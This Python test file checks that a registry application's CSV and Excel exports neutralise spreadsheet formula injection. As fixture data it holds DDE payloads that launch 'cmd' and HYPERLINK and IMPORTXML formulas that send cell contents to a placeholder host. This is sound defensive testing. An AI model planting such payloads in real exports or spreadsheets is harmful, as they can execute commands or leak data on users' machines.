"""Formula injection (issue #13 item 11): text that a spreadsheet would run leaves every CSV and Excel
export inert — text cells in Excel, the OWASP prefix ``'`` in CSV — numbers stay numbers, and an
exported CSV imports back to the same values."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from registry.organisations.models import Organisation
from registry.stations.models import Site
from registry.tabular import read_table, write_csv, write_xlsx
from tests.factories import make_site, make_station

ADDRESS = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [ADDRESS, OWNER, "+84 1+2", "-2+3", "=1+1", "\t=1", "\r=1"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def sheet(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content)).worksheets[0]


def assert_inert_xlsx(ws: Any, expected: str) -> None:
    cells = [c for row in ws.iter_rows() for c in row if c.value == expected]
    assert cells, f"{expected!r} not in the sheet"
    for c in cells:
        assert c.data_type == "s", (c.coordinate, c.data_type)


# --- the one place: registry/tabular ----------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_text_gets_the_owasp_prefix_and_reads_back(value: str) -> None:
    data = write_csv(["Tên", "Số"], [[value, -5], ["bình thường", 2.5]])
    rows = csv_rows(data)
    assert rows[1] == ["'" + value, "-5"]  # the negative number is a number: no prefix
    assert rows[2] == ["bình thường", "2.5"]
    table = read_table(data, "x.csv")
    assert table.rows[0][1][0] == value  # reading takes the prefix off again


def test_an_apostrophe_of_the_data_itself_is_kept() -> None:
    data = write_csv(["Tên"], [["'trích dẫn'"], ["''=1"]])
    assert [r[1][0] for r in read_table(data, "x.csv").rows] == ["'trích dẫn'", "''=1"]


def test_xlsx_text_is_text_and_numbers_are_numbers() -> None:
    ws = sheet(write_xlsx(["=Tên", "Số"], [[v, -5] for v in HOSTILE] + [["x\x01y\x00", 1.5]]))
    assert ws["A1"].data_type == "s" and ws["A1"].value == "=Tên"
    for i, value in enumerate(HOSTILE, start=2):
        assert ws.cell(i, 1).data_type == "s", value
        assert ws.cell(i, 1).value == value
        assert ws.cell(i, 2).data_type == "n" and ws.cell(i, 2).value == -5
    # Control characters no .xlsx may hold are dropped rather than failing the whole export.
    assert ws.cell(len(HOSTILE) + 2, 1).value == "xy"
    assert ws.cell(len(HOSTILE) + 2, 2).value == 1.5


def test_the_dossier_report_sheet_writes_text_as_text() -> None:
    from registry.procedures.reports import _sheet

    book = Workbook()
    _sheet(book, "Theo thủ tục", ["Mã", "Tên thủ tục", "Số hồ sơ"], [["TT-1", "=2*3", 7]])
    ws = book["Theo thủ tục"]
    out = io.BytesIO()
    book.save(out)
    ws = load_workbook(io.BytesIO(out.getvalue()))["Theo thủ tục"]
    assert ws["B2"].data_type == "s" and ws["B2"].value == "=2*3"
    assert ws["C2"].data_type == "n" and ws["C2"].value == 7


# --- stations and sites ----------------------------------------------------------------------------


@pytest.fixture
def hostile_site(db: Session) -> Site:
    owner = Organisation(code="EVIL-OWNER", name=OWNER, short_name=OWNER)
    db.add(owner)
    db.flush()
    site = make_site(db, code="EVIL-1", lon=106.6812345, lat=20.8612345, address=ADDRESS, owner=owner)
    make_station(
        db,
        site=site,
        operator_code="VIETTEL",
        station_code="HPG-EVIL",
        technologies=["4G"],
        bands=["1800"],
        commissioning_date=date(2021, 3, 15),
        sectors=[(0, 4, 1000)],
    )
    return site


def test_station_csv_export_is_inert(client: TestClient, hostile_site: Site) -> None:
    rows = csv_rows(client.get("/api/stations.csv").content)
    header, row = rows[0], next(r for r in rows[1:] if r[0] == "HPG-EVIL")
    cell = dict(zip(header, row, strict=False))
    assert cell["Địa chỉ"] == "'" + ADDRESS
    assert "'" + OWNER in row
    assert float(cell["Kinh độ"]) == pytest.approx(106.6812345)


def test_station_xlsx_export_is_inert(client: TestClient, hostile_site: Site) -> None:
    ws = sheet(client.get("/api/stations.xlsx").content)
    assert_inert_xlsx(ws, ADDRESS)
    assert_inert_xlsx(ws, OWNER)
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "HPG-EVIL")
    lon = row[header.index("Kinh độ")]
    assert lon.data_type == "n" and lon.value == pytest.approx(106.6812345)


def test_an_exported_station_csv_imports_back_to_the_same_values(
    client: TestClient, db: Session, hostile_site: Site
) -> None:
    exported = client.get("/api/stations.csv").content
    response = client.post("/api/imports/stations", files={"file": ("xuat.csv", exported, "text/csv")})
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["stations_unchanged"] == report["rows"] and report["sites_updated"] == 0
    assert report["organisations_created"] == []
    db.expire_all()
    site = db.scalar(select(Site).where(Site.code == "EVIL-1"))
    assert site is not None and site.address == ADDRESS
    assert db.get(Organisation, site.owner_id).name == OWNER  # type: ignore[union-attr]


# --- press outlets ----------------------------------------------------------------------------------

OUTLET = '=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")'


def test_outlet_exports_are_inert_and_import_back(client: TestClient) -> None:
    created = client.post("/api/press/outlets", json={"kind": "magazine", "name": OUTLET, "code": "EVIL-BC"})
    assert created.status_code == 201, created.text
    exported = client.get("/api/press/outlets.csv").content
    rows = csv_rows(exported)
    row = next(r for r in rows if r[0] == "EVIL-BC")
    assert row[2] == "'" + OUTLET
    assert_inert_xlsx(sheet(client.get("/api/press/outlets.xlsx").content), OUTLET)
    again = client.post("/api/imports/press-outlets", files={"file": ("bao-chi.csv", exported)})
    assert again.status_code == 200, again.text
    assert again.json()["unchanged"] == again.json()["rows"]
    assert client.get("/api/press/outlets/EVIL-BC").json()["name"] == OUTLET


# --- cases ------------------------------------------------------------------------------------------

SUBJECT = "-1+cmd|' /C calc'!A0"


def test_case_export_is_inert(client: TestClient) -> None:
    created = client.post(
        "/api/cases",
        json={"kind": "petition", "received_on": "2026-03-02", "channel": "online", "subject": SUBJECT},
    )
    assert created.status_code == 201, created.text
    export = client.get("/api/cases.xlsx")
    assert export.status_code == 200, export.text
    assert_inert_xlsx(sheet(export.content), SUBJECT)
